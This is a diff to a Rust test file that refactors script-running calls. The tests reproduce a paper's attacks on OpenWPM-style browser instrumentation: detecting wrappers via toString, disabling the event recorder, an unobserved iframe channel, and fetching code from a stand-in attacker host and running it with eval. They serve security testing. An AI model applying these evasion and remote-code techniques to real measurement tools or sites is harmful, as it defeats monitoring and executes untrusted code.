@@ -27,13 +27,13 @@ fn listing1_tostring_detectability() {
     // The paper probes canvas.getContext; our instrument wraps the document
     // APIs — same mechanism, same leak.
     let out = page
-        .run_script(
+        .run_script((
             r#"
             var native_before = '' + Object.getOwnPropertyNames; // sanity
             document.createElement.toString()
             "#,
             "https://victim.test/listing1.js",
-        )
+        ))
         .unwrap();
     let text = out.as_str().unwrap();
     // Paper: "output of .toString when instrumented" contains the wrapper
@@ -47,7 +47,7 @@ fn listing1_tostring_detectability() {
         Url::parse("https://clean.test/").unwrap(),
         None,
     );
-    let out = clean.run_script("document.createElement.toString()", "probe").unwrap();
+    let out = clean.run_script(("document.createElement.toString()", "probe")).unwrap();
     assert_eq!(out.as_str().unwrap(), "function createElement() {\n    [native code]\n}");
 }
 
@@ -55,7 +55,7 @@ fn listing1_tostring_detectability() {
 #[test]
 fn listing2_turn_off_recorder() {
     let (mut page, store) = instrumented_page();
-    page.run_script(
+    page.run_script((
         r#"
         // Step I: Retrieve OpenWPM's random ID
         var dispatch_fn = document.dispatchEvent;
@@ -73,13 +73,13 @@ fn listing2_turn_off_recorder() {
         };
         "#,
         "https://victim.test/listing2.js",
-    )
+    ))
     .unwrap();
     let before = store.borrow().js_calls.len();
-    page.run_script(
+    page.run_script((
         "navigator.userAgent; navigator.platform; screen.width;",
         "https://victim.test/after.js",
-    )
+    ))
     .unwrap();
     assert_eq!(store.borrow().js_calls.len(), before, "all instrument events swallowed");
 }
@@ -88,7 +88,7 @@ fn listing2_turn_off_recorder() {
 #[test]
 fn listing3_unobserved_iframe_channel() {
     let (mut page, store) = instrumented_page();
-    page.run_script(
+    page.run_script((
         r#"
         setTimeout(function () {
             var element = document.querySelector('#unobserved');
@@ -99,7 +99,7 @@ fn listing3_unobserved_iframe_channel() {
         }, 500);
         "#,
         "https://victim.test/listing3.js",
-    )
+    ))
     .unwrap();
     page.advance(2_000);
     let ua_from_attack = store
@@ -115,7 +115,7 @@ fn listing3_unobserved_iframe_channel() {
 fn listing4_silent_js_delivery() {
     let (mut page, _store) = instrumented_page();
     page.add_server_resource("https://attacker.test/cheat", "text/plain", "window.pwned = 1;");
-    page.run_script(
+    page.run_script((
         r#"
         var stealth_code = 'https://attacker.test/cheat';
         fetch(stealth_code)
@@ -123,9 +123,9 @@ fn listing4_silent_js_delivery() {
             .then(function (res) { eval(res); });
         "#,
         "https://victim.test/listing4.js",
-    )
+    ))
     .unwrap();
-    let v = page.run_script("window.pwned", "probe").unwrap();
+    let v = page.run_script(("window.pwned", "probe")).unwrap();
     assert_eq!(v, jsengine::Value::Num(1.0), "payload must execute");
     // The HTTP instrument's JS filter would not have saved it: the response
     // has neither a JS content type nor a .js extension.
@@ -142,10 +142,10 @@ fn listing4_silent_js_delivery() {
 #[test]
 fn fake_record_injection_cannot_spoof_page_url() {
     let (mut page, store) = instrumented_page();
-    page.run_script(
-        &detect::corpus::fake_data_injection_attack("https://innocent.example/lib.js"),
+    page.run_script((
+        detect::corpus::fake_data_injection_attack("https://innocent.example/lib.js"),
         "https://victim.test/attack.js",
-    )
+    ))
     .unwrap();
     let store = store.borrow();
     let forged: Vec<_> = store
